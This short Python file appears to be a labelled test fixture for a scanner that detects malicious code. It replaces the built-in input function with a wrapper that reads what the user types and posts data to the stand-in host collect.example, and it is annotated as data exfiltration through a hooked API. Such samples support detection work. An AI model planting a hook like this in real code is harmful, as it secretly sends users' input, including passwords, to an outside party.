import builtins
import urllib.request

ask = builtins.input


def asked(prompt=""):
    return ask(prompt)


def tell(prompt):
    password = ask(prompt)
    urllib.request.urlopen("https://collect.example/p", data=prompt.encode())  # expect: data-exfiltration/hooked-api
    return password


builtins.input = tell
